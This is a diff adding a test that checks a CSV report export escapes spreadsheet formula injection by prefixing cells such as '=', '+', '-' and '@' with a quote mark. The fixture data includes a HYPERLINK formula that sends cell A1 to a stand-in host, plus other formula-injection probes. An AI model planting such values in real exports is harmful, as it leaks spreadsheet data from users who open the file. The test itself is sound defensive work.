@@ -55,3 +55,23 @@ t.test('answers without a column of their own are counted in status_other and er
   t.equal(at('status_200'), '3');
   t.equal(at('remaining'), '97');
 });
+
+t.test('CSV: a cell a spreadsheet would run as a formula is written as text (OWASP, CSV injection)', async (t) => {
+  const names = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+1+cmd', '-2+3', '@SUM(A1)', '\tlead', '\rlead', 'plain', 'a-b=c'];
+  const report = buildReport('2026-08', {
+    keys: names.map((name, i) => ({ id: `key_aaaaaaaaaaa${i}`, name, plan: 'free', createdAt: Date.parse('2026-08-02T00:00:00Z'), revokedAt: null })),
+    tallies: [],
+    used: [],
+    open: [],
+  }, BUILT_IN_PLANS);
+  const rows = toCsv(report).split('\r\n').slice(1);
+  const nameOf = (i: number) => rows.find((r) => r.includes(`key_aaaaaaaaaaa${i},`))!.split(`key_aaaaaaaaaaa${i},`)[1]!;
+  t.ok(nameOf(0).startsWith(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")",free,`), 'a formula: a leading quote mark, quoted, its quotes doubled');
+  t.ok(nameOf(1).startsWith(`"'+1+cmd",free,`), '+');
+  t.ok(nameOf(2).startsWith(`"'-2+3",free,`), '-');
+  t.ok(nameOf(3).startsWith(`"'@SUM(A1)",free,`), '@');
+  t.ok(nameOf(4).startsWith(`"'\tlead",free,`), 'tab');
+  t.ok(nameOf(5).startsWith(`"'\rlead",free,`), 'carriage return');
+  t.ok(nameOf(6).startsWith('plain,free,'), 'plain text is written as it is');
+  t.ok(nameOf(7).startsWith('a-b=c,free,'), 'a sign inside the text is no formula');
+});
